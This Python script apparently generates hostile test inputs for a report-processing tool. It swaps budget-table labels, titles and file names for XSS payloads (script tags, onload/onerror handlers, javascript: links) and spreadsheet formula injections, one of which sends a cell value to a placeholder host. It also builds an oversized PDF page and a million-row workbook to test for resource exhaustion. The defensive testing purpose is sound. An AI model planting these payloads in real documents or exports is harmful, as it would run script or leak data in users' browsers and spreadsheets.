"""Make the hostile corpus: reports whose labels, captions and file names try to act in the outputs.

    python tests/bad_inputs/make_hostile.py [TARGET_DIR]

Each payload is a real attack on one output: script and event handlers on the HTML export of the notebook
and on the batch summary, `javascript:` links, and formulas (`=HYPERLINK`, `@`, `+`, `-`) on the CSV files
a spreadsheet program opens. The table is Kediri's Tabel 3.3 (real findings, so the labels reach the
findings view) with its Program names replaced.
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from make_corpus import assemble_pdf, kediri_tabel_3_3  # noqa: E402

#: Each would act if an output let it: it runs, loads, links or computes. Programs 6 and 7 of the table
#: have findings, so their names reach the findings view and batch_findings.csv.
HTML_PAYLOADS = ["<svg onload=alert('svg')>", '<a href="javascript:alert(\'tautan\')">klik</a>', "Program biasa",
                 "Program biasa", "Program biasa", "<script>alert('skrip')</script>", "<img src=x onerror=alert('img')>"]
FORMULA_PAYLOADS = ["Program biasa", "Program biasa", "Program biasa", "Program biasa", "Program biasa",
                    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")', "@SUM(1+1)"]
HOSTILE_FILE_NAMES = ["<img src=x onerror=alert('nama')>.txt", "=1+1.txt"]


def hostile_report(payloads: list[str]) -> str:
    lines = kediri_tabel_3_3().splitlines()
    lines[0] = lines[0] + " <script>alert('judul')</script>"
    numbered = [i for i, line in enumerate(lines) if line.split("\t")[0].strip().isdigit()]
    for payload, i in zip(payloads, numbered):
        cells = lines[i].split("\t")
        cells[1] = payload
        lines[i] = "\t".join(cells)
    return "\n".join(lines) + "\n"


def write_hostile(target: Path) -> dict[str, Path]:
    target.mkdir(parents=True, exist_ok=True)
    files = {}
    for name, payloads in [("skrip.txt", HTML_PAYLOADS), ("rumus.txt", FORMULA_PAYLOADS),
                           *((n, HTML_PAYLOADS) for n in HOSTILE_FILE_NAMES)]:
        files[name] = target / name
        files[name].write_text(hostile_report(payloads), encoding="utf-8")
    return files


if __name__ == "__main__":
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent / "hostile"
    for name, path in write_hostile(folder).items():
        print(path)


def giant_page_pdf(side: float = 14_400) -> bytes:
    """One ruled budget table on a page `side` points square (200 inches: PDF's largest): a page that would
    take gigabytes to render for ruled-line detection. Its Jumlah sisa is wrong (700.000, the rows give
    600.000)."""
    rows = [["No", "Program", "Pagu", "Realisasi", "Sisa"], ["1", "Program A", "1.000.000", "900.000", "100.000"],
            ["2", "Program B", "2.000.000", "1.500.000", "500.000"], ["", "Jumlah", "3.000.000", "2.400.000", "700.000"]]
    xs, top = [50, 100, 400, 600, 800, 1000], side - 400
    ops = [f"BT /F1 10 Tf {xs[j] + 3} {top - i * 20 - 14} Td ({cell}) Tj ET"
           for i, row in enumerate(rows) for j, cell in enumerate(row)]
    ops += [f"{xs[0]} {top - i * 20} m {xs[-1]} {top - i * 20} l S" for i in range(len(rows) + 1)]
    ops += [f"{x} {top} m {x} {top - 20 * len(rows)} l S" for x in xs]
    content = "\n".join(ops).encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Contents 4 0 R "
               b"/Resources << /Font << /F1 5 0 R >> >> >>" % (side, side),
               b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    return assemble_pdf(objects)


def million_rows_xlsx(target: Path, rows: int = 1_000_000) -> Path:
    """A workbook of `rows` one-cell rows (about 7 MB): loaded whole, it took 4 GB."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Data")
    for i in range(rows):
        ws.append([i])
    wb.save(target)
    return target
